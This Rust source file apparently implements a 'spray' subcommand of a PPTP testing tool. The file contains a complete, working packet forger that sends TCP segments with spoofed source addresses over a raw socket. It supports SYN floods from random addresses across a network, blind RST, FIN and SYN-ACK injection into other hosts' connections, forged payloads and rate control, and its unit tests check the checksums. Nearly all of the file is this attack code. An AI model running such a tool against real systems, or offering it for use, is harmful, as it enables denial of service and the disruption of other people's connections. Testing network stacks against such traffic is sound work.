//! `pptp-peer spray`: forged TCP segments with any source address, as an
//! off-path attacker sends them: SYN floods from many addresses, blind
//! SYN-ACK, FIN or RST injection into someone else's connection. Sequence
//! and acknowledgement numbers are random: an off-path sender cannot know
//! the real ones.

use std::io;
use std::mem;
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::str::FromStr;
use std::thread;
use std::time::{Duration, Instant};

const SYN: u8 = 0x02;
const FIN: u8 = 0x01;
const RST: u8 = 0x04;
const PSH: u8 = 0x08;
const ACK: u8 = 0x10;

/// Which segment to forge.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// A connection request (no ACK).
    Syn,
    /// A handshake reply.
    SynAck,
    /// A close.
    FinAck,
    /// A reset.
    Rst,
    /// A reset with ACK.
    RstAck,
    /// Data (with --payload-hex).
    PshAck,
}

impl Kind {
    fn flags(self) -> u8 {
        match self {
            Kind::Syn => SYN,
            Kind::SynAck => SYN | ACK,
            Kind::FinAck => FIN | ACK,
            Kind::Rst => RST,
            Kind::RstAck => RST | ACK,
            Kind::PshAck => PSH | ACK,
        }
    }
}

/// An IPv4 network, ADDR/LEN.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Net {
    base: u32,
    len: u8,
}

impl FromStr for Net {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        let (a, l) = s
            .split_once('/')
            .ok_or_else(|| format!("{s:?} is not ADDR/LEN"))?;
        let a: Ipv4Addr = a.parse().map_err(|e| format!("{a:?}: {e}"))?;
        let len: u8 = l.parse().map_err(|e| format!("{l:?}: {e}"))?;
        if len > 32 {
            return Err(format!("prefix length {len} > 32"));
        }
        let mask = if len == 0 { 0 } else { u32::MAX << (32 - len) };
        Ok(Net {
            base: u32::from(a) & mask,
            len,
        })
    }
}

/// Destination ports, in the order given.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Ports(Vec<u16>);

impl FromStr for Ports {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        parse_ports(s).map(Ports)
    }
}

/// Parses "P", "LO-HI" or a comma-separated list of those.
fn parse_ports(s: &str) -> Result<Vec<u16>, String> {
    let mut out = Vec::new();
    for part in s.split(',').filter(|p| !p.is_empty()) {
        let num = |x: &str| x.trim().parse::<u16>().map_err(|e| format!("{x:?}: {e}"));
        match part.split_once('-') {
            Some((lo, hi)) => {
                let (lo, hi) = (num(lo)?, num(hi)?);
                if lo > hi {
                    return Err(format!("empty range {part:?}"));
                }
                out.extend(lo..=hi);
            }
            None => out.push(num(part)?),
        }
    }
    if out.is_empty() {
        return Err("no ports".into());
    }
    Ok(out)
}

/// Options of `pptp-peer spray`.
#[derive(clap::Args, Debug)]
pub struct SprayOpts {
    /// Destination address.
    #[arg(long)]
    pub to: Ipv4Addr,
    /// Destination ports: "P", "LO-HI" or a comma-separated list of those.
    #[arg(long)]
    pub to_ports: Ports,
    /// Forged source address.
    #[arg(
        long,
        required_unless_present = "from_net",
        conflicts_with = "from_net"
    )]
    pub from: Option<Ipv4Addr>,
    /// Forge source addresses at random from this network (ADDR/LEN).
    #[arg(long)]
    pub from_net: Option<Net>,
    /// Forged source port; random (1024-65535) for each segment without it.
    #[arg(long)]
    pub from_port: Option<u16>,
    /// Kinds of segment, comma-separated.
    #[arg(long, value_enum, value_delimiter = ',', required = true)]
    pub kinds: Vec<Kind>,
    /// Segments to send: every (port, kind) pair in turn.
    #[arg(long)]
    pub count: u64,
    /// Seed of the random numbers.
    #[arg(long, default_value_t = 1)]
    pub seed: u64,
    /// Payload of every segment, in hex (e.g. a forged PPTP message).
    #[arg(long, value_parser = parse_hex, default_value = "")]
    pub payload_hex: Hex,
    /// Segments per second at most; 0 for as fast as the kernel takes them.
    #[arg(long, default_value_t = 0)]
    pub pps: u64,
    /// Give up after this many seconds, sent or not.
    #[arg(long, default_value_t = 20.0)]
    pub max_secs: f64,
}

/// Bytes given in hex.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Hex(Vec<u8>);

fn parse_hex(s: &str) -> Result<Hex, String> {
    if !s.is_ascii() || s.len() % 2 != 0 {
        return Err(format!("{s:?} is not an even number of hex digits"));
    }
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).map_err(|e| format!("{s:?}: {e}")))
        .collect::<Result<Vec<u8>, String>>()
        .map(Hex)
}

/// splitmix64: reproducible from the seed, no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn u32(&mut self) -> u32 {
        (self.next() >> 32) as u32
    }
}

/// One forged segment: addresses, ports, flags and numbers.
#[derive(Clone, Copy, Debug)]
struct Segment {
    src: Ipv4Addr,
    dst: Ipv4Addr,
    sport: u16,
    dport: u16,
    seq: u32,
    ack: u32,
    flags: u8,
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    sum as u16
}

fn sum_words(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum()
}

/// IPv4 header plus a 20-byte TCP header without options, then `payload`,
/// both checksums filled in (the kernel would fill the IP one anyway).
fn build(s: &Segment, payload: &[u8]) -> Vec<u8> {
    let total = 40 + payload.len();
    let mut p = vec![0u8; total];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&(total as u16).to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&s.src.octets());
    p[16..20].copy_from_slice(&s.dst.octets());
    let ipsum = !fold(sum_words(&p[..20]));
    p[10..12].copy_from_slice(&ipsum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&s.sport.to_be_bytes());
    t[2..4].copy_from_slice(&s.dport.to_be_bytes());
    t[4..8].copy_from_slice(&s.seq.to_be_bytes());
    let ack = if s.flags & ACK != 0 { s.ack } else { 0 };
    t[8..12].copy_from_slice(&ack.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = s.flags;
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    p[40..].copy_from_slice(payload);
    let tcp_len = (20 + payload.len()) as u32;
    let pseudo = sum_words(&s.src.octets()) + sum_words(&s.dst.octets()) + 6 + tcp_len;
    let tcpsum = !fold(pseudo + sum_words(&p[20..]));
    p[36..38].copy_from_slice(&tcpsum.to_be_bytes());
    p
}

/// A raw socket that sends whole IP packets (IPPROTO_RAW implies IP_HDRINCL).
struct RawIp(OwnedFd);

impl RawIp {
    fn open() -> io::Result<Self> {
        // SAFETY: plain syscall; the result is checked before use.
        let fd = unsafe {
            libc::socket(
                libc::AF_INET,
                libc::SOCK_RAW | libc::SOCK_CLOEXEC,
                libc::IPPROTO_RAW,
            )
        };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: fd is a fresh descriptor that nothing else owns.
        Ok(RawIp(unsafe { OwnedFd::from_raw_fd(fd) }))
    }

    fn send(&self, pkt: &[u8], to: Ipv4Addr) -> io::Result<()> {
        // SAFETY: sockaddr_in is plain old data; all-zero is a valid value.
        let mut sa: libc::sockaddr_in = unsafe { mem::zeroed() };
        sa.sin_family = libc::AF_INET as libc::sa_family_t;
        sa.sin_addr.s_addr = u32::from(to).to_be();
        // SAFETY: the buffer and sockaddr are valid for the lengths passed.
        let n = unsafe {
            libc::sendto(
                self.0.as_raw_fd(),
                pkt.as_ptr() as *const libc::c_void,
                pkt.len(),
                0,
                &sa as *const libc::sockaddr_in as *const libc::sockaddr,
                mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }
}

/// Sends the segments; prints `{"sent":N,...}`; fails unless all were sent.
pub fn run(o: SprayOpts) -> i32 {
    let raw = match RawIp::open() {
        Ok(r) => r,
        Err(e) => {
            eprintln!("pptp-peer spray: cannot open raw IP socket (needs root/CAP_NET_RAW): {e}");
            return 1;
        }
    };
    let mut rng = Rng(o.seed);
    let start = Instant::now();
    let limit = Duration::from_secs_f64(o.max_secs.max(0.0));
    let (ports, kinds) = (&o.to_ports.0, &o.kinds);
    let mut sent = 0u64;
    let mut retries = 0u64;
    let mut error = None;
    'all: for i in 0..o.count {
        let src = match (o.from, o.from_net) {
            (Some(a), _) => a,
            (None, Some(n)) => {
                let host = if n.len == 32 {
                    0
                } else {
                    rng.u32() & (u32::MAX >> n.len)
                };
                Ipv4Addr::from(n.base | host)
            }
            (None, None) => unreachable!("clap requires --from or --from-net"),
        };
        let sport = o
            .from_port
            .unwrap_or_else(|| 1024 + (rng.u32() % (65536 - 1024)) as u16);
        // Every port gets every kind: port first, kind once per round of ports.
        let seg = Segment {
            src,
            dst: o.to,
            sport,
            dport: ports[(i % ports.len() as u64) as usize],
            seq: rng.u32(),
            ack: rng.u32(),
            flags: kinds[((i / ports.len() as u64) % kinds.len() as u64) as usize].flags(),
        };
        let pkt = build(&seg, &o.payload_hex.0);
        if o.pps > 0 {
            // On schedule rather than a fixed gap: sleeps overshoot.
            let due = Duration::from_secs_f64(i as f64 / o.pps as f64);
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                thread::sleep(wait);
            }
        }
        loop {
            if start.elapsed() > limit {
                error = Some(format!("gave up after {limit:?}"));
                break 'all;
            }
            match raw.send(&pkt, o.to) {
                Ok(()) => break,
                // A full device queue: let it drain, as a flooding tool would.
                Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) => {
                    retries += 1;
                    thread::sleep(Duration::from_micros(200));
                }
                Err(e) => {
                    error = Some(format!("send to {}:{} failed: {e}", o.to, seg.dport));
                    break 'all;
                }
            }
        }
        sent += 1;
    }
    let summary = serde_json::json!({
        "sent": sent,
        "to": o.to.to_string(),
        "ports": ports.len(),
        "secs": start.elapsed().as_secs_f64(),
        "enobufs_retries": retries,
        "error": error,
    });
    println!("{summary}");
    if sent == o.count {
        0
    } else {
        1
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn segments_parse_back_with_valid_checksums() {
        let s = Segment {
            src: Ipv4Addr::new(198, 18, 7, 9),
            dst: Ipv4Addr::new(10, 213, 2, 1),
            sport: 1723,
            dport: 40000,
            seq: 0xDEAD_BEEF,
            ack: 0x0102_0304,
            flags: FIN | ACK,
        };
        let p = build(&s, b"");
        let (ip, rest) = etherparse::Ipv4Header::from_slice(&p).unwrap();
        assert_eq!(ip.header_checksum, ip.calc_header_checksum());
        let (tcp, payload) = etherparse::TcpHeader::from_slice(rest).unwrap();
        assert!(payload.is_empty());
        assert_eq!(
            tcp.checksum,
            tcp.calc_checksum_ipv4_raw(s.src.octets(), s.dst.octets(), payload)
                .unwrap()
        );
        assert!(tcp.fin && tcp.ack && !tcp.syn && !tcp.rst);
        assert_eq!(
            (tcp.sequence_number, tcp.acknowledgment_number),
            (s.seq, s.ack)
        );
        assert_eq!((tcp.source_port, tcp.destination_port), (1723, 40000));
        // With an odd-length payload too (padded for the checksum only).
        let data = build(
            &Segment {
                flags: PSH | ACK,
                ..s
            },
            b"pptp!",
        );
        let (tcp, payload) = etherparse::TcpHeader::from_slice(&data[20..]).unwrap();
        assert_eq!(payload, b"pptp!");
        assert_eq!(u16::from_be_bytes([data[2], data[3]]), 45);
        assert_eq!(
            tcp.checksum,
            tcp.calc_checksum_ipv4_raw(s.src.octets(), s.dst.octets(), payload)
                .unwrap()
        );
        // A SYN carries no acknowledgement number.
        let syn = build(&Segment { flags: SYN, ..s }, b"");
        let (tcp, _) = etherparse::TcpHeader::from_slice(&syn[20..]).unwrap();
        assert!(tcp.syn && !tcp.ack && tcp.acknowledgment_number == 0);
    }

    #[test]
    fn ports_and_networks_parse() {
        assert_eq!(parse_ports("1,5-7"), Ok(vec![1, 5, 6, 7]));
        assert!(parse_ports("7-5").is_err());
        assert!(parse_ports("").is_err());
        let n: Net = "198.18.3.4/15".parse().unwrap();
        assert_eq!(
            (Ipv4Addr::from(n.base), n.len),
            (Ipv4Addr::new(198, 18, 0, 0), 15)
        );
        assert!("1.2.3.4/33".parse::<Net>().is_err());
        assert_eq!(parse_hex("00ff10"), Ok(Hex(vec![0, 0xff, 0x10])));
        assert!(parse_hex("abc").is_err());
        assert!(parse_hex("zz").is_err());
        assert!(parse_hex("\u{20ac}a").is_err());
    }
}
